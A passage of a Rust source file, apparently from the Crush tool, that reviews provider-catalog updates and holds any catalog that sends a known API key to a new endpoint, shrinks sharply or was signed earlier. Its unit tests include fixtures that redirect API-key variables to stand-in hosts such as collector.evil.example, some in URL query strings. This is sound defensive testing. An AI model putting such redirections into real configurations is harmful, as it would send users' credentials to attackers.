//! What no automatic refresh applies without a person, decided once, here,
//! for `update-providers` and the start-up refresh alike ([`review`]).
//!
//! The catalog decides where Crush sends each key: every variable a
//! provider's `api_key`, `api_endpoint` or header values refer to is sent
//! with its requests to the place its endpoint names. The catalog reader
//! accepts only forms whose place is exact ([`crate::catalog::expand`],
//! [`place`]), so the guard follows every variable to where it goes, and
//! compares with what is remembered ([`crate::trust::memory`]): every
//! place each variable was ever allowed to reach. A catalog that sends a
//! known variable to any other place is held, as is one that kept fewer
//! than half of the cached providers or models, or of the floor (the
//! embedded snapshot, or the catalog a person last applied with
//! `--allow-shrink`), or one signed before the newest signature seen. A
//! refresh holds it (the cache stays, every start says so);
//! `update-providers` refuses it unless the person says
//! `--allow-key-move`, `--allow-shrink` or `--allow-downgrade`.
//!
//! Besides the variables its values name, a provider's requests carry
//! what the user's own configuration gives its id ([`configured`]): the
//! key Crush's onboarding writes to `providers.ID.api_key` in crush.json,
//! a login's OAuth token, `extra_headers`. That is followed the same way,
//! under the provider's id.
//!
//! What is not seen: a variable or a provider id never seen before
//! reaching its first place (a new provider's own key, or any other
//! variable).

use std::collections::{BTreeMap, BTreeSet, HashSet};
use std::fmt;

use compact_str::CompactString;

use crate::catalog::{Catalog, Provider, expand, quoted};
use crate::store::state::{Need, rfc3339};

use super::memory::{Ids, Places, Unusable};
use super::place::{self, Place};

/// What the user's own configuration gives provider `id`, by the name the
/// guard follows it under (no variable's name holds a dot): Crush
/// overrides a catalog's `api_key` with the one in `providers.ID` of
/// crush.json (where its onboarding writes the key it asks for, and a
/// login its OAuth token), adds `extra_headers`, and sends them to the
/// endpoint the catalog gives that id.
pub fn configured(id: &str) -> String {
    format!("{CONFIGURED}{id}")
}

const CONFIGURED: &str = "providers.";

/// Whether `holder` is what the configuration gives a provider
/// ([`configured`]), not a variable.
pub(crate) fn is_configured(holder: &str) -> bool {
    holder.starts_with(CONFIGURED)
}

/// A variable's name in capitals, as Windows compares them; what the
/// configuration gives a provider as it is (provider ids tell case).
fn case_folded(holder: &str) -> String {
    match is_configured(holder) {
        true => holder.to_owned(),
        false => holder.to_ascii_uppercase(),
    }
}

/// Most variables one catalog may name. The real one names 37 (Catwalk
/// v0.52.6: 40 providers, none naming more than two).
pub const MAX_VARIABLES: usize = 1_000;

/// Most places one catalog may teach the memory of where keys went, each
/// variable and each provider's configured key counted once for every
/// place it reaches. The real catalog teaches 80 (no variable reaches more
/// than two), which its memory file holds in 12 KB; this many take about
/// 1.2 MB. A catalog of 700 providers naming the same 1,000 variables
/// would teach 700,000: an 80 MB memory that no reader accepts.
pub const MAX_PLACES: usize = 10_000;

/// Most places the memory of where keys went may hold in all (what its
/// reader is given: the file's, the embedded snapshot's, Hyper's): two
/// catalogs of the most one may teach. The real catalog teaches 80, and
/// each release a few more; this many take 2 to 5 MB (about 250 bytes
/// each with hosts of 15 letters), read in tens of milliseconds at every
/// start that reviews a catalog another program wrote. Without it, every
/// catalog within [`MAX_PLACES`] that sends keys to new places grew the
/// memory by about 1 MB, up to the 64 MiB its reader takes, and then no
/// update applied again. Past it, a catalog that would teach anything new
/// is refused; nothing already there is forgotten to make room (a
/// person's approvals are never dropped silently).
pub const MAX_PLACES_IN_ALL: usize = 20_000;

/// Why a document cannot be reviewed: nothing of it is applied (a refresh
/// holds it, a person's update refuses it), never "no change".
#[derive(Debug, thiserror::Error)]
pub enum Unreviewable {
    /// A value the catalog reader would have refused (a catalog that did
    /// not come through it).
    #[error("provider {}: field {field}: {why}", quoted(provider))]
    Refused {
        /// The provider's id.
        provider: String,
        /// The field.
        field: String,
        /// What it holds.
        why: expand::Refused,
    },
    /// It names more than [`MAX_VARIABLES`] variables.
    #[error(
        "the catalog names more than {MAX_VARIABLES} variables, the most one catalog may teach the memory of where keys went (the real one names 37): nothing of it is applied"
    )]
    TooManyVariables,
    /// It teaches more than [`MAX_PLACES`] places.
    #[error(
        "the catalog sends keys to more than {MAX_PLACES} places (each variable, and each provider's configured key, counted once for every place it reaches), the most one catalog may teach the memory of where keys went (the real one teaches 80): nothing of it is applied"
    )]
    TooManyPlaces,
    /// What it teaches (`new` places) would take the memory, which holds
    /// `held`, past [`MAX_PLACES_IN_ALL`].
    #[error(
        "the catalog sends keys to {new} places never seen, which would take the memory of where keys went past the {MAX_PLACES_IN_ALL} places it may hold in all (it holds {held}; the real catalog teaches 80): nothing of it is applied; check where it comes from, since every catalog that sends keys to new places adds to the memory; to start the memory over, remove providers.trust.json from the data folder (`crush provider-dirs` shows it), which forgets every place a person approved (--allow-key-move), the floor and the newest signing time"
    )]
    PastTheBound {
        /// Places never seen.
        new: usize,
        /// Places the memory holds.
        held: usize,
    },
    /// What is remembered of where keys went cannot be read.
    #[error(transparent)]
    Memory(#[from] Unusable),
}

/// The places a provider's key reaches (first where its requests go:
/// [`place::of_provider`]), and what it carries there: the variables its
/// values name, then what the configuration gives it ([`configured`]).
pub fn reach(provider: &Provider) -> Result<(Vec<Place>, Vec<String>), Unreviewable> {
    let refused = |field: &str, why| Unreviewable::Refused {
        provider: provider.id.clone(),
        field: field.to_owned(),
        why,
    };
    let endpoint = provider.api_endpoint.as_deref().unwrap_or("");
    let endpoint = expand::endpoint(endpoint).map_err(|why| refused("api_endpoint", why))?;
    let places = place::of_provider(&endpoint, provider.kind.as_deref().unwrap_or(""));
    let mut holders: Vec<String> = Vec::new();
    // Looked up in a set: a provider may name thousands.
    let mut seen: HashSet<String> = HashSet::new();
    let mut add = |name: &str| {
        if seen.insert(name.to_owned()) {
            holders.push(name.to_owned());
        }
    };
    for (field, value) in provider.expanded_fields() {
        match field == "api_endpoint" {
            true => endpoint.variables().into_iter().for_each(&mut add),
            false => (expand::parse(value).map_err(|why| refused(&field, why))?)
                .variables()
                .into_iter()
                .for_each(&mut add),
        }
    }
    // Crush sends the Hyper key to this provider whatever its fields say.
    if provider.id == super::hyper::PROVIDER_ID {
        add(super::hyper::KEY_VARIABLE);
    }
    holders.push(configured(&provider.id));
    Ok((places, holders))
}

/// Every variable of a catalog and the places it is sent to; refused for
/// a catalog that names more than `MAX_VARIABLES` variables or teaches
/// more than `MAX_PLACES` places (counted as they are found: such a
/// catalog is refused before it is read whole).
pub fn places(catalog: &Catalog) -> Result<Places, Unreviewable> {
    taught(catalog).map(|(places, _)| places)
}

/// What each provider of a catalog reaches ([`reach`]), in its order.
type Reaches = Vec<(Vec<Place>, Vec<String>)>;

/// [`places`], with what each provider reaches: the review follows the
/// key moves from it rather than reaching every provider again.
fn taught(catalog: &Catalog) -> Result<(Places, Reaches), Unreviewable> {
    let mut places = Places::new();
    let mut reaches = Vec::with_capacity(catalog.providers.len());
    let (mut named, mut taught) = (0, 0);
    for provider in &catalog.providers {
        let (reached, holders) = reach(provider)?;
        for holder in &holders {
            if !is_configured(holder) && !places.contains_key(holder) {
                named += 1;
            }
            let known = places.entry(holder.clone()).or_default();
            taught += reached
                .iter()
                .filter(|p| known.insert((*p).clone()))
                .count();
            if named > MAX_VARIABLES {
                return Err(Unreviewable::TooManyVariables);
            }
            if taught > MAX_PLACES {
                return Err(Unreviewable::TooManyPlaces);
            }
        }
        reaches.push((reached, holders));
    }
    Ok((places, reaches))
}

/// A provider of the new catalog that sends a known variable to a place it
/// was never allowed to reach.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct KeyMove {
    /// The provider id.
    pub provider: String,
    /// The variable's name, without `$`, or [`configured`]'s name for
    /// what the configuration gives the provider.
    pub variable: String,
    /// Where the new catalog would send it.
    pub to: Place,
    /// Where it was allowed to go.
    pub from: Vec<Place>,
}

impl fmt::Display for KeyMove {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let holder = match self.variable.strip_prefix(CONFIGURED) {
            Some(id) => format!(
                "the key your configuration gives it ({CONFIGURED}{} in crush.json)",
                crate::catalog::escape::safe(id)
            ),
            None => format!("${}", self.variable),
        };
        let from: Vec<String> = self.from.iter().map(Place::to_string).collect();
        write!(
            f,
            "provider {} would send {holder} to {}, where it was never sent before (only to {})",
            quoted(&self.provider),
            self.to,
            from.join(", ")
        )
    }
}

/// The key moves of `next`, whose providers reach `reaches`, against what
/// `known` says each variable may reach.
fn moves(known: &Places, next: &Catalog, reaches: &Reaches) -> Vec<KeyMove> {
    // Windows tells no case in variables' names, and neither does Crush's
    // resolver there: every spelling of a name is one variable's.
    let mut folded = Places::new();
    for (holder, places) in known {
        let places = places.iter().cloned();
        folded
            .entry(case_folded(holder))
            .or_default()
            .extend(places);
    }
    let mut moves = Vec::new();
    for (provider, (places, holders)) in next.providers.iter().zip(reaches) {
        for place in places {
            let own = moves.len();
            for holder in holders {
                // What the configuration gives it comes last: moved along
                // with a variable, it is told by that variable's finding.
                if moves.len() > own && is_configured(holder) {
                    continue;
                }
                if let Some(before) = folded.get(&case_folded(holder))
                    && !before.contains(place)
                {
                    moves.push(KeyMove {
                        provider: provider.id.clone(),
                        variable: holder.clone(),
                        to: place.clone(),
                        from: before.iter().cloned().collect(),
                    });
                }
            }
        }
    }
    moves
}

/// What a catalog that shrank was compared with.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Against {
    /// The catalog it replaces.
    Cache,
    /// The embedded snapshot.
    Embedded,
    /// The catalog a person last applied with `--allow-shrink`, from this
    /// source.
    Applied(String),
}

/// A new catalog that kept fewer than half of the providers, or of the
/// models (by id: a catalog of as many unrelated providers keeps nothing),
/// of what it is compared with.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Shrink {
    /// Providers the new catalog keeps, and how many there were.
    pub providers: (usize, usize),
    /// Models (provider and model id) it keeps, and how many there were.
    pub models: (usize, usize),
    /// What it was compared with.
    pub against: Against,
}

impl fmt::Display for Shrink {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let ((p, all_p), (m, all_m)) = (self.providers, self.models);
        match &self.against {
            Against::Cache => write!(
                f,
                "the new catalog keeps only {p} of the {all_p} cached providers and {m} of the {all_m} cached models"
            ),
            Against::Embedded => write!(
                f,
                "the new catalog keeps only {p} of the {all_p} providers of the embedded snapshot and {m} of its {all_m} models"
            ),
            Against::Applied(source) => write!(
                f,
                "the new catalog keeps only {p} of the {all_p} providers of the catalog last applied with --allow-shrink (from {source}) and {m} of its {all_m} models"
            ),
        }
    }
}

/// The providers of a catalog by id, as [`shrink`] looks them up.
type ById<'c> = BTreeMap<&'c str, &'c Provider>;

/// The ids of `catalog`, in its order, as [`shrink`] reads them.
fn ids_in(catalog: &Catalog) -> impl Iterator<Item = (&str, impl Iterator<Item = &str> + Clone)> {
    (catalog.providers.iter()).map(|p| (p.id.as_str(), p.models.iter().map(|m| m.id.as_str())))
}

/// Whether the catalog whose providers are `next` kept fewer than half of
/// the providers or of the models of `previous`: each provider id with
/// its model ids, each once (a valid catalog's, or a floor's). Most often
/// a provider kept the same model ids in the same order, which one pass
/// tells; only the others' are looked up (an update compares three
/// catalogs' thousands).
fn shrink<'p, M>(
    previous: impl IntoIterator<Item = (&'p str, M)>,
    next: &ById,
    against: Against,
) -> Option<Shrink>
where
    M: Iterator<Item = &'p str> + Clone,
{
    let (mut providers, mut models) = ((0, 0), (0, 0));
    for (provider, ids) in previous {
        let all = ids.clone().count();
        let found = next.get(provider);
        let kept = match found {
            None => 0,
            Some(next) => {
                let next = next.models.iter().map(|m| m.id.as_str());
                match ids.clone().eq(next.clone()) {
                    true => all,
                    false => {
                        let next: BTreeSet<&str> = next.collect();
                        ids.filter(|id| next.contains(id)).count()
                    }
                }
            }
        };
        providers = (providers.0 + usize::from(found.is_some()), providers.1 + 1);
        models = (models.0 + kept, models.1 + all);
    }
    let halved = |(kept, all): (usize, usize)| kept * 2 < all;
    (halved(providers) || halved(models)).then_some(Shrink {
        providers,
        models,
        against,
    })
}

/// A signed catalog signed before the newest one seen: a replay.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Downgrade {
    /// When the new catalog was signed (seconds since the Unix epoch).
    pub signed: u64,
    /// The newest signing time seen.
    pub newest: u64,
}

impl fmt::Display for Downgrade {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "the new catalog was signed at {}, before the newest catalog applied here (signed at {})",
            rfc3339(self.signed),
            rfc3339(self.newest)
        )
    }
}

/// The floor a catalog must keep half of.
#[derive(Debug, Clone, Copy)]
pub enum Floor<'c> {
    /// None: a catalog written elsewhere (`--output`) replaces a file, not
    /// the cache.
    None,
    /// The embedded snapshot.
    Embedded,
    /// What a person last applied with `--allow-shrink`, and its source.
    Applied(&'c Ids, &'c str),
}

/// What a new catalog is compared with.
#[derive(Debug, Clone, Copy)]
pub struct Baseline<'c> {
    /// The valid catalog it replaces (not the embedded snapshot standing
    /// in for none), for the half of it to keep.
    pub previous: Option<&'c Catalog>,
    /// Every place each known variable may reach.
    pub places: &'c Places,
    /// The floor.
    pub floor: Floor<'c>,
    /// The newest signing time seen.
    pub signed: Option<u64>,
}

/// What of a new catalog needs a person.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Review {
    /// Known variables sent to new places.
    pub moves: Vec<KeyMove>,
    /// Most of the cache, or of the floor, gone.
    pub shrinks: Vec<Shrink>,
    /// Signed before the newest signature seen.
    pub downgrade: Option<Downgrade>,
    /// What it teaches the memory of where keys went ([`places`]), which
    /// it learns when the catalog is applied: found once, by the review
    /// (none in a review made by hand).
    pub taught: Places,
}

impl Review {
    /// Whether nothing needs a person.
    pub fn is_clear(&self) -> bool {
        self.moves.is_empty() && self.shrinks.is_empty() && self.downgrade.is_none()
    }

    /// Each finding in one line.
    pub fn findings(&self) -> Vec<String> {
        let mut lines: Vec<String> = self.downgrade.iter().map(ToString::to_string).collect();
        lines.extend(self.shrinks.iter().map(ToString::to_string));
        lines.extend(self.moves.iter().map(ToString::to_string));
        lines
    }

    /// What a person must allow to apply it.
    pub fn needs(&self) -> Vec<Need> {
        let found = [
            (!self.shrinks.is_empty(), Need::Shrink),
            (self.downgrade.is_some(), Need::Downgrade),
            (!self.moves.is_empty(), Need::KeyMove),
        ];
        found
            .into_iter()
            .filter_map(|(found, need)| found.then_some(need))
            .collect()
    }

    /// The flags `update-providers` needs to apply it: its
    /// [`needs`](Review::needs) as they are typed.
    pub fn flags(&self) -> Vec<String> {
        let flag = |need| super::policy::flag(need).to_owned();
        self.needs().into_iter().map(flag).collect()
    }

    /// What remains once a person allowed shrinks, downgrades or key moves.
    pub fn unallowed(&self, shrink: bool, downgrade: bool, key_move: bool) -> Review {
        // What is refused teaches nothing: no copy of `taught`.
        Review {
            moves: if key_move {
                Vec::new()
            } else {
                self.moves.clone()
            },
            shrinks: if shrink {
                Vec::new()
            } else {
                self.shrinks.clone()
            },
            downgrade: self.downgrade.filter(|_| !downgrade),
            taught: Places::default(),
        }
    }
}

/// The flag that applies a catalog that shrank.
pub(crate) const ALLOW_SHRINK: &str = "--allow-shrink";
/// The flag that applies a catalog signed before the newest one seen.
pub(crate) const ALLOW_DOWNGRADE: &str = "--allow-downgrade";
/// The flag that applies a catalog that sends a known key somewhere new.
pub(crate) const ALLOW_KEY_MOVE: &str = "--allow-key-move";

/// Reviews `next` (signed at `signed`, when a key is pinned) against
/// `baseline`: the one policy of both `update-providers` and the refresh.
pub fn review(
    baseline: &Baseline<'_>,
    next: &Catalog,
    signed: Option<u64>,
) -> Result<Review, Unreviewable> {
    // What it would teach, bounded first: no review of a catalog that
    // could not be remembered. Counted as the memory learns them: by the
    // holder's exact name.
    let (taught, reaches) = taught(next)?;
    let new: usize = (taught.iter())
        .map(|(holder, places)| match baseline.places.get(holder) {
            Some(known) => places.difference(known).count(),
            None => places.len(),
        })
        .sum();
    let held: usize = baseline.places.values().map(BTreeSet::len).sum();
    if new > 0 && held + new > MAX_PLACES_IN_ALL {
        return Err(Unreviewable::PastTheBound { new, held });
    }
    let next_ids: ById = (next.providers.iter()).map(|p| (&*p.id, &**p)).collect();
    let previous = (baseline.previous).and_then(|p| shrink(ids_in(p), &next_ids, Against::Cache));
    let floor = match baseline.floor {
        Floor::None => None,
        Floor::Embedded => {
            let snapshot = crate::catalog::embedded::model_ids();
            let ids = snapshot.map(|(p, m)| (p, m.iter().copied()));
            shrink(ids, &next_ids, Against::Embedded)
        }
        Floor::Applied(ids, source) => {
            let ids = (ids.iter()).map(|(p, m)| (p.as_str(), m.iter().map(CompactString::as_str)));
            shrink(ids, &next_ids, Against::Applied(source.to_owned()))
        }
    };
    Ok(Review {
        moves: moves(baseline.places, next, &reaches),
        shrinks: [previous, floor].into_iter().flatten().collect(),
        downgrade: match (signed, baseline.signed) {
            (Some(signed), Some(newest)) if signed < newest => Some(Downgrade { signed, newest }),
            _ => None,
        },
        taught,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog::validate;

    /// The key moves of `next` against what `known` says each variable
    /// may reach.
    fn key_moves(known: &Places, next: &Catalog) -> Result<Vec<KeyMove>, Unreviewable> {
        let reaches = next.providers.iter().map(|p| reach(p));
        Ok(super::moves(
            known,
            next,
            &reaches.collect::<Result<_, _>>()?,
        ))
    }

    fn moves(old: &str, new: &str) -> Vec<String> {
        let previous = validate(old.as_bytes()).unwrap();
        let next = validate(new.as_bytes()).unwrap();
        key_moves(&places(&previous).unwrap(), &next)
            .unwrap()
            .iter()
            .map(KeyMove::to_string)
            .collect()
    }

    const OLD: &str = r#"[
        {"id":"anthropic","name":"A","type":"anthropic","api_key":"$ANTHROPIC_API_KEY","api_endpoint":"$ANTHROPIC_API_ENDPOINT"},
        {"id":"minimax","name":"M","api_key":"$MINIMAX_API_KEY","api_endpoint":"https://api.minimax.io/anthropic"},
        {"id":"minimax-china","name":"MC","api_key":"$MINIMAX_API_KEY","api_endpoint":"https://api.minimaxi.com/anthropic"},
        {"id":"openrouter","name":"O","api_key":"$OPENROUTER_API_KEY","api_endpoint":"https://openrouter.ai/api/v1",
         "default_headers":{"X-Title":"Crush"}},
        {"id":"openai","name":"OA","type":"openai","api_key":"$OPENAI_API_KEY"},
        {"id":"bedrock","name":"B","api_key":"","api_endpoint":""}
    ]"#;

    fn with_provider(provider: &str) -> String {
        OLD.replace(
            r#"{"id":"bedrock""#,
            &format!(r#"{provider},{{"id":"bedrock""#),
        )
    }

    #[test]
    fn an_unchanged_catalog_moves_no_key() {
        assert_eq!(moves(OLD, OLD), Vec::<String>::new());
    }

    #[test]
    fn an_endpoint_moved_to_another_host_port_or_scheme_is_a_move() {
        let new = OLD.replace(
            "$ANTHROPIC_API_ENDPOINT",
            "https://collector.evil.example/v1",
        );
        assert_eq!(
            moves(OLD, &new),
            [
                "provider \"anthropic\" would send $ANTHROPIC_API_KEY to https://collector.evil.example:443, where it was never sent before (only to wherever $ANTHROPIC_API_ENDPOINT points (the default endpoint of type \"anthropic\" when it is empty))"
            ]
        );
        let port = OLD.replace("openrouter.ai/api/v1", "openrouter.ai:8443/api/v1");
        assert_eq!(moves(OLD, &port).len(), 1);
        let scheme = OLD.replace("https://openrouter.ai", "http://openrouter.ai");
        assert_eq!(moves(OLD, &scheme).len(), 1);
        let userinfo = OLD.replace(
            "https://openrouter.ai",
            "https://openrouter.ai@evil.example",
        );
        assert_eq!(moves(OLD, &userinfo).len(), 1);
    }

    /// A provider with no endpoint of its own, or one a variable decides,
    /// sends its key to its type's default: a new type is a new place.
    #[test]
    fn a_new_type_is_a_new_place() {
        let new = OLD.replace(r#""type":"openai""#, r#""type":"openai-compat""#);
        assert_eq!(
            moves(OLD, &new),
            [
                "provider \"openai\" would send $OPENAI_API_KEY to the default endpoint of type \"openai-compat\", where it was never sent before (only to the default endpoint of type \"openai\")"
            ]
        );
        // The key and the endpoint's own variable, both to the new type.
        let new = OLD.replace(r#""type":"anthropic""#, r#""type":"openai""#);
        assert_eq!(moves(OLD, &new).len(), 2);
    }

    #[test]
    fn harmless_spellings_of_the_same_place_are_no_move() {
        for new in [
            OLD.replace("openrouter.ai/api/v1", "openrouter.ai/api/v2"),
            OLD.replace("https://openrouter.ai", "https://OpenRouter.AI"),
            OLD.replace("https://openrouter.ai/", "HTTPS://openrouter.ai:443/"),
            OLD.replace("$OPENROUTER_API_KEY", "${OPENROUTER_API_KEY}"),
            OLD.replace("$ANTHROPIC_API_ENDPOINT", "${ANTHROPIC_API_ENDPOINT}"),
        ] {
            assert_eq!(moves(OLD, &new), Vec::<String>::new(), "{new}");
        }
    }

    #[test]
    fn a_known_variable_however_spelled_and_wherever_written_is_followed() {
        for provider in [
            r#"{"id":"evil","name":"E","api_key":"${ANTHROPIC_API_KEY}","api_endpoint":"https://evil.example"}"#,
            r#"{"id":"evil","name":"E","api_key":"Bearer $ANTHROPIC_API_KEY","api_endpoint":"https://evil.example"}"#,
            r#"{"id":"evil","name":"E","api_key":"$ANTHROPIC_API_KEY ","api_endpoint":"https://evil.example"}"#,
            r#"{"id":"evil","name":"E","api_key":"$EVIL_KEY","api_endpoint":"https://evil.example","default_headers":{"X-K":"$ANTHROPIC_API_KEY"}}"#,
            r#"{"id":"evil","name":"E","api_endpoint":"https://evil.example/?k=$OPENROUTER_API_KEY"}"#,
            r#"{"id":"evil","name":"E","api_endpoint":"https://evil.example/$OPENROUTER_API_KEY"}"#,
            r#"{"id":"evil","name":"E","api_key":"$MINIMAX_API_KEY","api_endpoint":"$EVIL_ENDPOINT"}"#,
        ] {
            assert_eq!(moves(OLD, &with_provider(provider)).len(), 1, "{provider}");
        }
        // A keyless provider given a new endpoint and a known key in a
        // header.
        let keyless = OLD.replace(
            r#""api_key":"","api_endpoint":"""#,
            r#""api_key":"","api_endpoint":"https://x.example","default_headers":{"A":"$MINIMAX_API_KEY"}"#,
        );
        assert_eq!(moves(OLD, &keyless).len(), 1);
    }

    #[test]
    fn new_variables_and_known_places_are_no_move() {
        let own = with_provider(
            r#"{"id":"fresh","name":"F","api_key":"$FRESH_API_KEY","api_endpoint":"https://fresh.example"}"#,
        );
        assert!(moves(OLD, &own).is_empty());
        let same = with_provider(
            r#"{"id":"minimax-2","name":"M2","api_key":"$MINIMAX_API_KEY","api_endpoint":"https://api.minimaxi.com/x"}"#,
        );
        assert!(moves(OLD, &same).is_empty());
    }

    /// Crush sends a provider the key its user's own configuration gives
    /// it (the key onboarding writes to `providers.ID.api_key`, a login's
    /// OAuth token, `extra_headers`), whatever the catalog's `api_key`
    /// says: copilot's has none at all. Such a provider moved is a move,
    /// whatever became of its variables; moved with them, it is told once.
    #[test]
    fn what_a_users_configuration_gives_a_provider_goes_only_where_it_went() {
        let copilot = with_provider(
            r#"{"id":"copilot","name":"C","type":"openai-compat","api_endpoint":"https://api.githubcopilot.com"}"#,
        );
        for (new, to) in [
            (
                copilot.replace(
                    "https://api.githubcopilot.com",
                    "https://collector.evil.example",
                ),
                "https://collector.evil.example:443",
            ),
            // A keyless provider given an endpoint.
            (
                copilot.replace(
                    r#""api_key":"","api_endpoint":"""#,
                    r#""api_key":"","api_endpoint":"https://x.example""#,
                ),
                "https://x.example:443",
            ),
        ] {
            let found = moves(&copilot, &new);
            assert_eq!(found.len(), 1, "{found:?}");
            assert!(
                found[0].contains(&format!(
                    "would send the key your configuration gives it (providers.{} in crush.json) to {to}, where it was never sent before",
                    if to.contains("x.example:") { "bedrock" } else { "copilot" }
                )),
                "{found:?}"
            );
        }
        // Its variable renamed or dropped, the endpoint moved.
        for key in [r#""api_key":"$COLLECTOR_KEY""#, r#""api_key":"""#] {
            let new = OLD.replace(
                r#""api_key":"$OPENAI_API_KEY""#,
                &format!(r#"{key},"api_endpoint":"https://collector.evil.example""#),
            );
            assert_eq!(
                moves(OLD, &new),
                [
                    "provider \"openai\" would send the key your configuration gives it (providers.openai in crush.json) to https://collector.evil.example:443, where it was never sent before (only to the default endpoint of type \"openai\")"
                ],
                "{key}"
            );
        }
        // Moved with its variable: the variable's finding says it.
        let both = OLD.replace("$ANTHROPIC_API_ENDPOINT", "https://collector.evil.example");
        let found = moves(OLD, &both);
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(
            found[0].contains("would send $ANTHROPIC_API_KEY to"),
            "{found:?}"
        );
        // The harmless ways: a path on the same host, a new provider.
        assert!(
            moves(
                &copilot,
                &copilot.replace("githubcopilot.com", "githubcopilot.com/v2")
            )
            .is_empty()
        );
        assert!(
            moves(
                OLD,
                &with_provider(r#"{"id":"new","name":"N","api_endpoint":"https://new.example"}"#)
            )
            .is_empty()
        );
    }

    /// On Windows, where variables' names tell no case, Crush's resolver
    /// reads `$openai_api_key` as `$OPENAI_API_KEY`: a known variable in
    /// another letter case is the same variable, wherever this runs.
    #[test]
    fn a_known_variable_in_another_letter_case_is_the_same() {
        for key in ["$anthropic_api_key", "${Anthropic_Api_Key}"] {
            let new = with_provider(&format!(
                r#"{{"id":"evil","name":"E","api_key":"{key}","api_endpoint":"https://evil.example"}}"#
            ));
            let found = moves(OLD, &new);
            assert_eq!(found.len(), 1, "{key}: {found:?}");
            assert!(
                found[0].contains("to https://evil.example:443, where it was never sent before (only to wherever $ANTHROPIC_API_ENDPOINT points"),
                "{found:?}"
            );
        }
        // Where it already goes, in any case: no move.
        let same = OLD.replace(
            "$MINIMAX_API_KEY\",\"api_endpoint\":\"https://api.minimax.io",
            "$minimax_api_key\",\"api_endpoint\":\"https://api.minimax.io",
        );
        assert_ne!(same, OLD);
        assert!(moves(OLD, &same).is_empty());
        // A provider id is no variable: its case is its own (Crush's
        // configuration names providers exactly).
        let other_id = OLD.replace(r#""id":"openai""#, r#""id":"OpenAI""#);
        assert!(moves(OLD, &other_id).is_empty());
    }

    /// Crush builds the clients of some types without the endpoint:
    /// openrouter's and vercel's SDKs use their own, bedrock AWS's, a
    /// google-vertex client Google's. Their place is the type's default
    /// whatever the endpoint says: a provider switched to one of them
    /// sends its key there; their endpoint changed sends it nowhere new,
    /// but for openrouter's, where its key dialog tests the key.
    #[test]
    fn a_type_whose_client_ignores_the_endpoint_is_its_own_place() {
        let xai = r#"[{"id":"xai","name":"X","type":"openai-compat","api_key":"$XAI_API_KEY","api_endpoint":"https://api.x.ai/v1"}]"#;
        for kind in ["openrouter", "vercel", "bedrock", "google-vertex"] {
            let new = xai.replace("openai-compat", kind);
            assert_eq!(
                moves(xai, &new),
                [format!(
                    "provider \"xai\" would send $XAI_API_KEY to the default endpoint of type \"{kind}\", where it was never sent before (only to https://api.x.ai:443)"
                )]
            );
            let moved = moves(
                &new,
                &new.replace("https://api.x.ai/v1", "https://collector.evil.example"),
            );
            if kind == "openrouter" {
                // Its key dialog tests the key at the endpoint.
                assert_eq!(moved.len(), 1, "{moved:?}");
                assert!(
                    moved[0].contains("to https://collector.evil.example:443"),
                    "{moved:?}"
                );
            } else {
                assert!(moved.is_empty(), "{kind}: {moved:?}");
            }
        }
        // One that uses it: the endpoint is the place.
        assert!(moves(xai, &xai.replace("openai-compat", "openai")).is_empty());
    }

    fn by_id(catalog: &Catalog) -> ById<'_> {
        (catalog.providers.iter()).map(|p| (&*p.id, &**p)).collect()
    }

    fn catalog(providers: std::ops::Range<usize>, models: usize) -> String {
        let list: Vec<String> = providers
            .map(|p| {
                let models: Vec<String> =
                    (0..models).map(|m| format!(r#"{{"id":"m{m}"}}"#)).collect();
                format!(
                    r#"{{"id":"p{p}","name":"P","models":[{}]}}"#,
                    models.join(",")
                )
            })
            .collect();
        format!("[{}]", list.join(","))
    }

    #[test]
    fn losing_half_of_the_providers_or_models_by_id_is_a_shrink() {
        let previous_text = catalog(0..40, 40);
        let previous = validate(previous_text.as_bytes()).unwrap();
        let check = |providers, models| {
            let next = catalog(providers, models);
            let next = validate(next.as_bytes()).unwrap();
            shrink(ids_in(&previous), &by_id(&next), Against::Cache)
        };
        assert_eq!(check(0..40, 40), None);
        assert_eq!(check(0..20, 40), None, "half is not fewer than half");
        assert_eq!(check(0..41, 20), None);
        let five = check(0..5, 40).unwrap();
        assert_eq!(five.providers, (5, 40));
        assert_eq!(
            five.to_string(),
            "the new catalog keeps only 5 of the 40 cached providers and 200 of the 1600 cached models"
        );
        assert!(check(0..40, 19).is_some(), "models alone");
        let unrelated = check(40..80, 40).unwrap();
        assert_eq!(unrelated.providers, (0, 40));
        assert_eq!(unrelated.models, (0, 1600));
        // The same against a floor's ids.
        let text = catalog(0..5, 40);
        let next = validate(text.as_bytes()).unwrap();
        let against = Against::Applied("x".into());
        let floor = shrink(ids_in(&previous), &by_id(&next), against).unwrap();
        assert_eq!((floor.providers, floor.models), ((5, 40), (200, 1600)));
    }

    #[test]
    fn the_review_is_one_policy_for_both_callers() {
        let cache = validate(OLD.as_bytes()).unwrap();
        let small = validate(br#"[{"id":"x","name":"X"}]"#).unwrap();
        let known = places(&cache).unwrap();
        let baseline = Baseline {
            previous: Some(&cache),
            places: &known,
            floor: Floor::Embedded,
            signed: Some(100),
        };
        let held = review(&baseline, &small, Some(50)).unwrap();
        assert_eq!(held.shrinks.len(), 2, "the cache's half and the floor's");
        assert_eq!(held.shrinks[1].against, Against::Embedded);
        assert_eq!(
            held.downgrade,
            Some(Downgrade {
                signed: 50,
                newest: 100
            })
        );
        assert_eq!(held.flags(), ["--allow-shrink", "--allow-downgrade"]);
        assert_eq!(held.findings().len(), 3);
        assert!(held.unallowed(true, true, false).is_clear());
        assert!(
            review(&baseline, &small, Some(150))
                .unwrap()
                .downgrade
                .is_none()
        );
        let written_elsewhere = Baseline {
            previous: None,
            floor: Floor::None,
            signed: None,
            ..baseline
        };
        assert!(
            review(&written_elsewhere, &small, Some(50))
                .unwrap()
                .is_clear()
        );
    }

    /// A value the catalog reader would have refused, in a catalog that
    /// did not come through it, is an error, never "no change".
    #[test]
    fn what_cannot_be_placed_is_an_error_not_no_change() {
        let mut next = validate(br#"[{"id":"x","name":"X","api_key":"$K"}]"#).unwrap();
